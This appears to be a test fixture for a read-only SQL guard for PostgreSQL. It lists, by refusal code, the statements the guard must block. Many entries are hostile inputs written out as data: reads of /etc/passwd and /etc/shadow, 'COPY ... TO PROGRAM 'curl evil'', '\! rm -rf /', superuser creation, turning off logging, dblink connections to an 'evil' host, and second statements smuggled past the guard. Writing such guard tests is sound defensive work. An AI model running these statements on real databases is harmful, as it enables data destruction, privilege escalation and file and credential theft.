-- What the guard refuses, one statement a line, under the code it is refused with.

-- code: empty
;
-- nothing
/* nothing at all */ ;;

-- code: syntax_error
SELEC 1
SELECT 'unterminated
SELECT FROM WHERE
```sql SELECT 1```
SELECT 1 \gexec
PRAGMA table_info(orders)
SELECT * FROM orders LIMIT 10, 5
SELECT `id` FROM orders
SELECT pg_/**/sleep(1), pg_sleep(1)
SELECT TOP 5 * FROM orders
SELECT * FROM orders WHERE id = ?
DESCRIBE orders
\dt
SELEC id FROM orders
\copy orders to 'x'
\! rm -rf /
\i /etc/passwd
SELECT 1 \g | sh
SELECT 1 \watch 1
SELECT 1; \c postgres
SELECT :'x'; DROP TABLE orders
ＤＥＬＥＴＥ FROM orders
SELECT 1​; DELETE FROM orders
SELECT nextval('order_no' '_seq')
SELECT * FROM orders FETCH FIRST (nextval('order_no_seq')) ROWS WITH TIES
SELECT * FROM XMLTABLE('/r' PASSING pg_read_file('/x')::xml COLUMNS a int PATH '@a' DEFAULT nextval('order_no_seq'))
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t WHERE n<3) CYCLE n SET c TO app.promote(1) DEFAULT 0 USING p SELECT * FROM t
SELECT ROW(o.*).touch_row FROM orders o
SELECT xmlexists('//a' PASSING pg_read_file('x')::xml)
DESC orders
USE shop
SELECT * FROM orders LIMIT 5, 10
SELECT [id] FROM orders
EXEC sp_who
GO
SELECT 1 GO DELETE FROM orders
SELECT 1\; DELETE FROM orders
EXPLAIN EXPLAIN SELECT 1
EXPLAIN SHOW ALL
SELECT * FROM orders WHERE CURRENT OF c1
SELECT cast('x' AS orders%ROWTYPE)
EXPLAIN (FORMAT TEXT) CREATE VIEW v AS SELECT 1

-- code: several_statements
SELECT 1; SELECT 2
SELECT 1; DROP TABLE orders
BEGIN; SELECT 1; COMMIT
SELECT $$;$$; DELETE FROM orders
SELECT 1;;SELECT 2
SELECT 1 /* ; */ ; /* */ UPDATE orders SET total = 1
SELECT 'a''; SELECT 2' ; TRUNCATE orders --'
SELECT 'a;b'; VACUUM
SELECT $q$ ; $q$; SELECT 1; ROLLBACK; DELETE FROM orders; --
SELECT 1 /*; */; DROP TABLE orders /* */
SELECT 1; DELETE FROM orders
SELECT 1; SELECT

-- code: writes
INSERT INTO orders DEFAULT VALUES
INSERT INTO orders(status) SELECT 'x' RETURNING id
UPDATE orders SET status = 'x'
DELETE FROM orders
WITH x AS (SELECT 1) DELETE FROM orders
MERGE INTO customers c USING (SELECT 1 AS id) s ON c.id = s.id WHEN MATCHED THEN DELETE
TRUNCATE orders, customers CASCADE
UPDATE ONLY orders AS o SET total = 0 FROM customers c WHERE c.id = o.customer_id RETURNING o.id
INSERT INTO customers (id, name) SELECT id, name FROM customers ON CONFLICT (id) DO UPDATE SET name = excluded.name
DELETE FROM orders USING customers WHERE customers.id = orders.customer_id
MERGE INTO products p USING (VALUES (1)) v(id) ON p.id = v.id WHEN NOT MATCHED THEN DO NOTHING
TRUNCATE ONLY orders, order_items RESTART IDENTITY CASCADE
MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN MATCHED THEN DO NOTHING
MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN NOT MATCHED BY SOURCE THEN DELETE RETURNING merge_action(), c.*
INSERT INTO orders DEFAULT VALUES RETURNING old.id, new.id
INSERT INTO customers SELECT * FROM customers ON CONFLICT DO NOTHING
UPDATE orders SET total = 0 RETURNING WITH (OLD AS o, NEW AS n) o.total, n.total
DELETE FROM orders USING customers WHERE false
TRUNCATE ONLY orders RESTART IDENTITY CASCADE
;DELETE FROM orders
/* SELECT */ DELETE /* FROM nothing */ FROM orders
INSERT INTO orders (status) SELECT 'x' RETURNING *
WITH x AS (SELECT 1) INSERT INTO updates(id) TABLE x
WITH x AS (SELECT 1) UPDATE orders SET total = 0
WITH x AS (SELECT 1) MERGE INTO updates u USING x ON false WHEN NOT MATCHED THEN DO NOTHING

-- code: changes_schema
CREATE TABLE t (id int)
CREATE TABLE t AS SELECT 1
CREATE TEMP TABLE t AS SELECT 1
CREATE UNLOGGED TABLE t (id int)
CREATE MATERIALIZED VIEW m AS SELECT 1
CREATE VIEW v AS SELECT 1
CREATE INDEX CONCURRENTLY ON orders (status)
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE EXTENSION dblink
CREATE ROLE evil SUPERUSER
CREATE DATABASE d
CREATE TABLESPACE t LOCATION '/tmp'
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE USER MAPPING FOR CURRENT_USER SERVER s
CREATE POLICY p ON orders USING (true)
CREATE TRIGGER t BEFORE UPDATE ON orders EXECUTE FUNCTION f()
CREATE CAST (int AS text) WITH FUNCTION f(int)
CREATE OPERATOR + (LEFTARG = int, RIGHTARG = text, FUNCTION = f)
ALTER TABLE orders ADD COLUMN x int
ALTER SYSTEM SET fsync = off
ALTER ROLE postgres PASSWORD 'x'
ALTER DATABASE shop SET search_path = evil
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC
DROP TABLE orders
DROP OWNED BY app_user
GRANT ALL ON orders TO PUBLIC
REVOKE ALL ON orders FROM app_user
COMMENT ON TABLE orders IS 'x'
SECURITY LABEL ON TABLE orders IS 'x'
REFRESH MATERIALIZED VIEW m
REINDEX TABLE orders
CLUSTER orders
VACUUM
VACUUM FULL orders
ANALYZE
ANALYZE orders
CHECKPOINT
REASSIGN OWNED BY a TO b
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
ALTER TABLE orders DISABLE TRIGGER ALL
ALTER SYSTEM SET log_statement = 'none'
ALTER ROLE CURRENT_USER SET default_transaction_read_only = off
CREATE UNLOGGED TABLE x AS TABLE orders WITH NO DATA
REFRESH MATERIALIZED VIEW CONCURRENTLY mv
CLUSTER orders USING orders_pkey
REINDEX TABLE CONCURRENTLY orders
COMMENT ON TABLE orders IS NULL
GRANT SELECT ON customers TO PUBLIC
REASSIGN OWNED BY app TO postgres
REINDEX INDEX CONCURRENTLY i
VACUUM (ANALYZE, SKIP_LOCKED) orders
CLUSTER orders USING i
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO app
CREATE TABLE IF NOT EXISTS t AS TABLE orders WITH NO DATA
CREATE TEMP VIEW v AS SELECT 1
CREATE UNLOGGED TABLE t(a int)
CREATE EXTENSION IF NOT EXISTS plpython3u
CREATE USER MAPPING FOR PUBLIC SERVER s
CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END
CREATE DOMAIN d AS int
CREATE AGGREGATE a(int) (sfunc = int4pl, stype = int)
CREATE CAST (text AS mood) WITH INOUT
CREATE COLLATION c (provider = icu, locale = 'de')
ALTER SYSTEM SET shared_preload_libraries = 'x'
ALTER ROLE CURRENT_USER SET statement_timeout = 0
ALTER SEQUENCE order_no_seq RESTART
DROP TABLE IF EXISTS nothing_there
GRANT pg_read_server_files TO PUBLIC
CREATE OR REPLACE VIEW v AS SELECT 1
ALTER TABLE orders ADD CONSTRAINT c CHECK (total > 0) NOT VALID
ALTER TABLE orders OWNER TO CURRENT_USER

-- code: changes_session
SET search_path = evil
SET LOCAL statement_timeout = 0
SET SESSION AUTHORIZATION postgres
SET ROLE postgres
SET TRANSACTION READ WRITE
SET TRANSACTION SNAPSHOT '1'
SET CONSTRAINTS ALL DEFERRED
RESET ALL
DISCARD ALL
BEGIN
START TRANSACTION READ WRITE
COMMIT
ROLLBACK
ABORT
END
SAVEPOINT s
RELEASE SAVEPOINT s
ROLLBACK TO s
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
PREPARE p AS SELECT 1
EXECUTE p
DEALLOCATE ALL
DECLARE c CURSOR FOR SELECT 1
DECLARE c CURSOR WITH HOLD FOR SELECT 1
FETCH ALL FROM c
MOVE NEXT IN c
CLOSE ALL
LISTEN x
UNLISTEN *
NOTIFY x, 'y'
LOCK TABLE orders
LOAD 'evil.so'
PREPARE q AS SELECT 1
EXECUTE q
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders
LISTEN jobs
NOTIFY jobs, 'x'
LOAD 'auto_explain'
LOCK TABLE orders IN SHARE MODE
SET LOCAL ROLE postgres
SET LOCAL work_mem = '10GB'
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SET SESSION AUTHORIZATION DEFAULT
RESET ROLE
BEGIN READ WRITE
START TRANSACTION READ ONLY
SAVEPOINT a
RELEASE SAVEPOINT a
ROLLBACK TO a
COMMIT AND CHAIN
LISTEN chan
NOTIFY chan, 'x'
PREPARE p AS DELETE FROM orders
LOCK TABLE orders IN ACCESS SHARE MODE

-- code: not_a_read
COPY orders TO STDOUT
COPY orders FROM STDIN
COPY orders TO PROGRAM 'curl evil'
COPY (SELECT 1) TO '/tmp/x'
COPY (DELETE FROM orders RETURNING *) TO STDOUT
DO $$ BEGIN PERFORM pg_sleep(1); END $$
CALL p()
DO LANGUAGE plpgsql $$ BEGIN RAISE NOTICE 'hi'; END $$
CALL do_something(1)
COPY (SELECT * FROM customers) TO STDOUT
COPY customers TO '/tmp/c.csv' CSV HEADER
COPY orders FROM '/tmp/x'
COPY (SELECT 1) TO STDOUT
DO $$ BEGIN PERFORM 1; END $$
DO LANGUAGE plpgsql 'BEGIN DELETE FROM orders; END'
CALL app.promote(1)

-- code: writes_inside
WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d
WITH a AS (SELECT 1), b AS (UPDATE orders SET status = 'x' RETURNING id) SELECT * FROM a
SELECT * FROM (WITH i AS (INSERT INTO orders DEFAULT VALUES RETURNING id) SELECT * FROM i) s
SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1)
WITH RECURSIVE r AS (DELETE FROM orders RETURNING id) SELECT * FROM r
EXPLAIN WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d
SELECT (WITH m AS (MERGE INTO customers c USING (SELECT 1 AS id) s ON c.id = s.id WHEN MATCHED THEN DELETE RETURNING c.id) SELECT id FROM m)
WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM order_items RETURNING order_id) SELECT * FROM c) SELECT * FROM a, b
WITH RECURSIVE r AS (SELECT 1 AS n), gone AS (UPDATE customers SET credit = 0 RETURNING id) SELECT r.n FROM r
WITH x AS (INSERT INTO metrics TABLE metrics RETURNING 1) TABLE x
(WITH q AS (UPDATE products SET price = price * 2 RETURNING *) SELECT count(*) FROM q)
WITH silent AS (DELETE FROM events) SELECT 'nothing to see'
EXPLAIN ANALYZE WITH d AS (DELETE FROM events RETURNING 1) SELECT * FROM d
WITH d AS (DELETE FROM orders) SELECT 1
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n+1 FROM r WHERE n < 3), u AS (UPDATE orders SET total = total) SELECT * FROM r
WITH a AS (WITH b AS (INSERT INTO updates(id) VALUES (1) RETURNING id) SELECT * FROM b) SELECT * FROM a
WITH a AS NOT MATERIALIZED (UPDATE customers SET name = 'x' WHERE false RETURNING 1) TABLE a
SELECT 1 UNION (WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d)
VALUES ((WITH d AS (DELETE FROM orders RETURNING 1) SELECT count(*) FROM d))
SELECT * FROM orders LEFT JOIN LATERAL (WITH d AS (DELETE FROM events RETURNING id) SELECT id FROM d) z ON true
SELECT ARRAY(WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d)
SELECT id FROM orders ORDER BY (WITH d AS (DELETE FROM orders RETURNING id) SELECT max(id) FROM d)
WITH t AS (MERGE INTO updates u USING orders o ON u.id = o.id WHEN NOT MATCHED THEN INSERT (id) VALUES (o.id) RETURNING merge_action()) SELECT * FROM t
EXPLAIN (ANALYZE, FORMAT JSON) WITH x AS (INSERT INTO updates(id) VALUES (1) RETURNING 1) TABLE x
SELECT * FROM orders WHERE id = (WITH a AS (SELECT 1), b AS (INSERT INTO updates(id) VALUES (1) RETURNING id) SELECT id FROM b)

-- code: select_into
SELECT * INTO t FROM orders
SELECT 1 INTO TEMP t
(SELECT 1 AS a INTO t)
SELECT 1 AS a INTO t UNION ALL SELECT 2
WITH x AS (SELECT 1) SELECT * INTO UNLOGGED t FROM x
SELECT c.* INTO UNLOGGED copy FROM customers c
SELECT id INTO TEMP t FROM orders
SELECT * INTO t9 FROM orders
SELECT id INTO TEMP t9 FROM orders
WITH x AS (SELECT 1 AS a) SELECT a INTO UNLOGGED t8 FROM x
EXPLAIN SELECT * INTO t7 FROM orders
SELECT * FROM LATERAL (SELECT 1 INTO x) q

-- code: locks_rows
SELECT * FROM orders FOR UPDATE
SELECT * FROM orders FOR NO KEY UPDATE
SELECT * FROM orders FOR SHARE NOWAIT
SELECT * FROM orders FOR KEY SHARE SKIP LOCKED
SELECT * FROM (SELECT * FROM orders FOR UPDATE) s
WITH x AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM x
SELECT * FROM orders o JOIN customers c ON true FOR UPDATE OF o
(SELECT id FROM orders) FOR UPDATE
SELECT * FROM (SELECT id FROM orders FOR UPDATE SKIP LOCKED) q
WITH l AS (SELECT id FROM orders FOR KEY SHARE) SELECT count(*) FROM l
SELECT id FROM orders WHERE id IN (SELECT customer_id FROM orders LIMIT 1 FOR UPDATE)
TABLE orders FOR UPDATE
SELECT * FROM orders o, customers c WHERE o.customer_id = c.id FOR UPDATE OF o SKIP LOCKED
SELECT * FROM (SELECT * FROM orders FOR KEY SHARE) s
WITH x AS MATERIALIZED (SELECT * FROM orders FOR UPDATE) SELECT count(*) FROM x
SELECT (SELECT id FROM orders LIMIT 1 FOR UPDATE)
VALUES (1) FOR UPDATE
TABLE orders FOR SHARE
SELECT 1 WHERE EXISTS (SELECT 1 FROM orders FOR NO KEY UPDATE)
EXPLAIN ANALYZE VERBOSE SELECT * FROM orders FOR UPDATE
SELECT * FROM (SELECT * FROM (SELECT * FROM orders FOR UPDATE) a) b
SELECT (ARRAY(SELECT id FROM orders FOR SHARE))[1]

-- code: explains_no_read
EXPLAIN DELETE FROM orders
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM orders
EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1
EXPLAIN ANALYZE EXECUTE p
EXPLAIN DECLARE c CURSOR FOR SELECT 1
EXPLAIN REFRESH MATERIALIZED VIEW m
EXPLAIN ANALYZE INSERT INTO orders DEFAULT VALUES
EXPLAIN (ANALYZE) CREATE MATERIALIZED VIEW m AS SELECT 1
EXPLAIN (ANALYZE 1) INSERT INTO metrics VALUES (1, now(), 1)
EXPLAIN (VERBOSE, ANALYZE) EXECUTE q
EXPLAIN ANALYZE DELETE FROM orders WHERE false
EXPLAIN (ANALYZE) INSERT INTO updates(id) VALUES (1)
EXPLAIN (ANALYZE 1) UPDATE orders SET total = 0
EXPLAIN (BUFFERS, ANALYZE 'on', WAL) DELETE FROM orders
EXPLAIN ANALYZE EXECUTE p(1)
EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1
EXPLAIN ANALYZE REFRESH MATERIALIZED VIEW m
EXPLAIN EXECUTE p
EXPLAIN UPDATE orders SET total = 1
EXPLAIN INSERT INTO updates(id) SELECT 1
EXPLAIN CREATE TABLE t AS SELECT 1
EXPLAIN (ANALYZE TRUE) CREATE MATERIALIZED VIEW m AS SELECT 1
EXPLAIN ANALYZE MERGE INTO updates u USING orders o ON false WHEN NOT MATCHED THEN INSERT DEFAULT VALUES
EXPLAIN (VERBOSE) UPDATE orders SET total = 1 RETURNING *

-- code: unknown_syntax
SELECT merge_action()
EXPLAIN (FORMAT JSON, EVIL) SELECT 1
EXPLAIN (WHATEVER) SELECT 1

-- code: function_refused
SELECT * FROM customers TABLESAMPLE bernoulli(pg_sleep(1)::text::real)
SELECT U&"pg!005fsleep" UESCAPE '!' (1)
SELECT pg_stat_clear_snapshot()
SELECT pg_replication_slot_advance('x', '0/0')
SELECT lo_put(1, 0, 'x')
SELECT * FROM dblink_get_result('c') AS t(a int)
SELECT dblink_send_query('c', 'DELETE FROM orders')
SELECT pg_restore_relation_stats('x')
SELECT pg_sleep(5)
SELECT PG_SLEEP(5)
SELECT pg_catalog.pg_sleep(5)
SELECT "pg_sleep"(5)
SELECT U&"\0070g_sleep"(5)
SELECT pg_sleep_for('5 minutes')
SELECT nextval('order_no_seq')
SELECT setval('order_no_seq', 1)
SELECT set_config('role', 'postgres', false)
SELECT setseed(0.5)
SELECT lo_import('/etc/passwd')
SELECT lo_get(1)
SELECT lowrite(1, 'x')
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT * FROM pg_ls_dir('/')
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS t
SELECT pg_stat_file('x')
SELECT pg_current_logfile()
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_promote()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_backup_start('x')
SELECT pg_start_backup('x')
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_xact_lock_shared(1, 2)
SELECT pg_advisory_unlock_all()
SELECT pg_notify('a', 'b')
SELECT pg_logical_emit_message(false, 'a', 'b')
SELECT pg_create_logical_replication_slot('a', 'b')
SELECT pg_logical_slot_get_changes('a', NULL, NULL)
SELECT pg_replication_origin_create('x')
SELECT pg_export_snapshot()
SELECT pg_stat_reset()
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT query_to_xml('DELETE FROM orders', true, true, '')
SELECT table_to_xml('pg_authid', true, true, '')
SELECT schema_to_xml('public', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT * FROM ts_stat('SELECT 1')
SELECT ts_rewrite('a'::tsquery, 'SELECT 1')
SELECT brin_summarize_new_values('x')
SELECT gin_clean_pending_list('x')
SELECT pg_import_system_collations('public')
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT fmgr_c_validator(1)
SELECT textin('x')
SELECT int4in('1')
SELECT domain_in('1', 1, 1)
SELECT "RI_FKey_cascade_del"()
SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')
SELECT * FROM dblink('dbname=shop', 'DELETE FROM orders') AS t(id int)
SELECT * FROM crosstab('DELETE FROM orders') AS t(a int)
SELECT pg_file_write('a', 'b', true)
SELECT pg_stat_statements_reset()
SELECT pg_prewarm('orders')
SELECT pg_show_all_file_settings()
SELECT pg_hba_file_rules()
SELECT count(*) FROM orders ORDER BY pg_sleep(1)
SELECT count(*) FROM orders HAVING pg_sleep(1) IS NULL
SELECT 1 LIMIT setval('order_no_seq', 1)
SELECT 1 OFFSET nextval('order_no_seq')
SELECT CASE WHEN false THEN pg_sleep(1) END
SELECT CASE pg_sleep(1)::text WHEN '' THEN 1 ELSE 2 END
SELECT coalesce(NULL, pg_sleep(1)::text)
SELECT greatest(1, nextval('order_no_seq'))
SELECT nullif(nextval('order_no_seq'), 1)
SELECT ARRAY[nextval('order_no_seq')]
SELECT ARRAY(SELECT pg_ls_dir('/'))
SELECT ROW(nextval('order_no_seq'))
SELECT (ARRAY[1])[nextval('order_no_seq')]
SELECT (SELECT pg_sleep(1))
SELECT 1 IN (SELECT nextval('order_no_seq'))
SELECT 1 = ANY (ARRAY[nextval('order_no_seq')])
SELECT 1 BETWEEN 0 AND nextval('order_no_seq')
SELECT 'a' LIKE pg_read_file('x')
SELECT 'a' SIMILAR TO pg_read_file('x')
SELECT -nextval('order_no_seq')
SELECT NOT (pg_sleep(1) IS NULL)
SELECT pg_sleep(1) IS DISTINCT FROM NULL
SELECT sum(nextval('order_no_seq')) FROM orders
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
SELECT string_agg(status, ',' ORDER BY pg_sleep(1)::text) FROM orders
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('order_no_seq')) FROM orders
SELECT sum(total) OVER (PARTITION BY pg_sleep(1)::text) FROM orders
SELECT sum(total) OVER w FROM orders WINDOW w AS (ORDER BY nextval('order_no_seq'))
SELECT sum(total) OVER (ORDER BY id ROWS nextval('order_no_seq') PRECEDING) FROM orders
SELECT DISTINCT ON (pg_sleep(1)::text) id FROM orders
SELECT count(*) FROM orders GROUP BY ROLLUP (nextval('order_no_seq'))
SELECT count(*) FROM orders GROUP BY GROUPING SETS ((nextval('order_no_seq')), ())
SELECT * FROM orders o JOIN customers c ON pg_sleep(1) IS NULL
SELECT * FROM customers c LEFT JOIN LATERAL (SELECT pg_sleep(1)) s ON true
SELECT * FROM (VALUES (pg_sleep(1))) v
VALUES (1), (nextval('order_no_seq'))
SELECT * FROM orders TABLESAMPLE SYSTEM (nextval('order_no_seq'))
SELECT * FROM orders TABLESAMPLE BERNOULLI (1) REPEATABLE (nextval('order_no_seq'))
SELECT CAST(nextval('order_no_seq') AS text)
SELECT nextval('order_no_seq') COLLATE "C"
SELECT EXTRACT(year FROM to_timestamp(nextval('order_no_seq')))
SELECT substring(pg_read_file('x') FROM 1 FOR 2)
SELECT overlay('abc' PLACING pg_read_file('x') FROM 1)
SELECT position('a' IN pg_read_file('x'))
SELECT trim(BOTH pg_read_file('x') FROM 'abc')
SELECT now() AT TIME ZONE pg_read_file('x')
SELECT normalize(pg_read_file('x'))
SELECT xmlelement(name a, pg_read_file('x'))
SELECT xmlelement(name a, xmlattributes(pg_read_file('x') AS b))
SELECT xmlforest(pg_read_file('x') AS a)
SELECT xmlparse(document pg_read_file('x'))
SELECT xmlserialize(content pg_read_file('x')::xml AS text)
SELECT xmlexists('/a' PASSING (pg_read_file('x')::xml))
SELECT * FROM XMLTABLE('/a' PASSING (pg_read_file('x')::xml) COLUMNS a int PATH 'a')
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS a int PATH 'a' DEFAULT nextval('order_no_seq'))
SELECT * FROM JSON_TABLE(pg_read_file('x')::jsonb, '$' COLUMNS (a int PATH '$'))
SELECT * FROM JSON_TABLE('{}'::jsonb, '$' PASSING nextval('order_no_seq') AS n COLUMNS (a int PATH '$'))
SELECT * FROM JSON_TABLE('{}'::jsonb, '$' COLUMNS (NESTED PATH '$' COLUMNS (a int PATH '$' DEFAULT nextval('order_no_seq') ON EMPTY)))
SELECT json_object('a' : pg_read_file('x'))
SELECT json_array(pg_read_file('x'))
SELECT json_array(SELECT pg_ls_dir('/'))
SELECT json_objectagg('a' : nextval('order_no_seq'))
SELECT json_arrayagg(nextval('order_no_seq') ORDER BY pg_sleep(1)::text)
SELECT json_value('{}', '$' DEFAULT nextval('order_no_seq') ON EMPTY)
SELECT json_query(pg_read_file('x')::jsonb, '$')
SELECT json_exists('{}'::jsonb, '$' PASSING pg_read_file('x') AS a)
SELECT json(pg_read_file('x'))
SELECT json_scalar(nextval('order_no_seq'))
SELECT json_serialize(pg_read_file('x'))
SELECT pg_read_file('x') IS JSON
SELECT make_interval(days => nextval('order_no_seq')::int)
SELECT concat(VARIADIC ARRAY[pg_read_file('x')])
SELECT jsonb_build_object('a', jsonb_build_array(pg_read_file('x')))
SELECT * FROM generate_series(1, nextval('order_no_seq'))
WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT nextval('order_no_seq') FROM r WHERE i < 3) SELECT * FROM r
WITH x AS MATERIALIZED (SELECT pg_sleep(1)) SELECT 1
EXPLAIN SELECT pg_sleep(1)
EXPLAIN ANALYZE SELECT pg_sleep(1)
SELECT 1 UNION SELECT nextval('order_no_seq')
TABLE customers UNION ALL SELECT nextval('order_no_seq'), NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL
SELECT nextval('public.order_no_seq'::regclass)
SELECT lastval(), nextval('order_no_seq')
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'
SELECT set_config('transaction_read_only', 'off', true)
SELECT pg_read_binary_file('postgresql.conf', 0, 10)
SELECT pg_logical_emit_message(false, 'p', 'x')
SELECT pg_create_logical_replication_slot('s', 'test_decoding')
SELECT schema_to_xml('public', true, false, '')
SELECT pg_sleep_for(interval '1 hour')
SELECT brin_summarize_new_values('ix'::regclass)
SELECT pg_catalog.pg_ls_logdir()
SELECT * FROM connectby('categories', 'id', 'parent_id', '1', 0) AS t(id int, parent int, level int)
SELECT * FROM pg_read_file('pg_hba.conf') AS f, regexp_split_to_table(f, E'\n') AS line
SELECT * FROM xpath_table('id', 'payload', 'audit_log', '/a', 'true') AS t(id int, a text)
SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 2)) AS t(a, b)
SELECT l.* FROM orders o, LATERAL dblink('dbname=x', 'DELETE FROM t') AS l(a int)
SELECT id FROM orders LIMIT (SELECT nextval('order_no_seq'))
SELECT sum(total) OVER (ORDER BY id ROWS BETWEEN pg_advisory_lock(1)::text::int PRECEDING AND CURRENT ROW) FROM orders
SELECT 1 FROM orders o JOIN customers c ON pg_sleep(1) IS NULL
SELECT coalesce(NULL, pg_read_file('x'))
SELECT * FROM orders ORDER BY CASE WHEN total > 1 THEN setval('order_no_seq', 9) ELSE 1 END
SELECT tags[nextval('order_no_seq')] FROM customers
SELECT jsonb_path_query(meta, '$.a', jsonb_build_object('x', pg_read_file('/x'))) FROM orders
SELECT DISTINCT x FROM unnest(ARRAY[pg_ls_dir('/')]) AS x
SELECT xmlelement(name a, pg_read_file('/etc/hosts'))
SELECT GREATEST(1, setval('order_no_seq', 2))
SELECT (SELECT count(*) FROM orders WHERE pg_try_advisory_lock(id))
SELECT sum(total) FILTER (WHERE nextval('order_no_seq') > 0) OVER () FROM orders
SELECT "pg_sleep"(1)
SELECT U&"pg\005fsleep"(1)
SELECT pg_catalog . /* x */ "set_config" ('a.b', 'c', false)
sElEcT pG_tErMiNaTe_BaCkEnD(1)
SELECT lower(name) FROM customers WHERE id = 1 UNION SELECT pg_read_file('/etc/passwd')
WITH pg_sleep AS (SELECT 1) SELECT pg_sleep(2) FROM pg_sleep
SELECT pg_promote(false)
SELECT pg_wal_replay_pause()
SELECT pg_terminate_backend(pid, 1000) FROM pg_stat_activity
SELECT pg_log_backend_memory_contexts(pid) FROM pg_stat_activity
SELECT pg_stat_reset_shared('bgwriter')
SELECT pg_stat_reset_slru('all')
SELECT pg_stat_force_next_flush()
SELECT pg_stat_reset_backend_stats(pg_backend_pid())
SELECT pg_create_logical_replication_slot('s','test_decoding')
SELECT pg_copy_physical_replication_slot('a','b')
SELECT pg_sync_replication_slots()
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)
SELECT pg_replication_origin_create('o')
SELECT pg_replication_origin_session_setup('o')
SELECT pg_logical_emit_message(false, 'p', 'c', true)
SELECT brin_summarize_new_values('i'::regclass)
SELECT brin_desummarize_range('i'::regclass, 0)
SELECT pg_import_system_collations('pg_catalog')
SELECT pg_restore_relation_stats('schemaname','public','relname','orders','relpages',10)
SELECT pg_clear_relation_stats('public','orders')
SELECT pg_extension_config_dump('orders', '')
SELECT pg_nextoid('pg_class'::regclass, 'oid', 'pg_class_oid_index'::regclass)
SELECT pg_event_trigger_dropped_objects()
SELECT pg_trigger_depth(), pg_notify('a','b')
SELECT pg_listening_channels(), pg_sleep_for('1 second')
SELECT pg_sleep_until(now() + interval '1 hour')
SELECT pg_backup_start('x'), pg_backup_stop()
SELECT currtid2('orders', '(0,1)')
SELECT pg_get_wal_replay_pause_state(), pg_wal_replay_resume()
SELECT suppress_redundant_updates_trigger()
SELECT plpgsql_call_handler()
SELECT dblink_get_notify()
SELECT setval('order_no_seq'::regclass, max(id)) FROM orders
SELECT coalesce(nullif(nextval('order_no_seq'), 0), 1)
SELECT pg_catalog.nextval('order_no_seq')
SELECT "nextval"('order_no_seq')
SELECT pg_sequence_last_value('order_no_seq'), nextval(pg_get_serial_sequence('orders','id'))
SELECT lo_create(0)
SELECT lo_put(1, 0, '\x00')
SELECT lo_unlink(oid) FROM pg_largeobject_metadata
SELECT lo_open(1, 131072)
SELECT loread(lo_open(16400, 262144), 1000000)
SELECT lowrite(0, '\x00')
SELECT lo_get(16400)
SELECT encode(lo_get(oid), 'hex') FROM pg_largeobject_metadata
SELECT pg_read_binary_file('global/pg_control')
SELECT pg_read_file('postgresql.conf', 0, 100, true)
SELECT convert_from(pg_read_binary_file('/etc/shadow'), 'UTF8')
SELECT * FROM pg_ls_dir('.', true, false) AS f WHERE f LIKE '%.conf'
SELECT * FROM pg_ls_logdir()
SELECT * FROM pg_ls_waldir()
SELECT * FROM pg_ls_archive_statusdir()
SELECT * FROM pg_ls_summariesdir()
SELECT (pg_stat_file('postgresql.conf')).modification
SELECT * FROM pg_read_file('/etc/passwd') WITH ORDINALITY
SELECT unnest(string_to_array(pg_read_file('/etc/passwd'), E'\n'))
SELECT * FROM pg_hba_file_rules()
SELECT * FROM pg_show_all_file_settings()
SELECT pg_file_write('x','y',true)
SELECT pg_logdir_ls()
SELECT pg_advisory_xact_lock(1, 2)
SELECT pg_try_advisory_lock(hashtext('vast'))
SELECT pg_advisory_lock_shared(id) FROM orders
SELECT 1 WHERE pg_try_advisory_lock(7)
SELECT id FROM orders ORDER BY pg_try_advisory_xact_lock(id) LIMIT 1
SELECT * FROM dblink('host=10.0.0.1', 'SELECT 1') AS t(a int)
SELECT dblink_open('c','SELECT 1')
SELECT dblink_connect_u('host=evil')
SELECT * FROM dblink_fetch('c', 10) AS t(a int)
SELECT dblink_build_sql_insert('orders','1',1,'{"1"}','{"2"}')
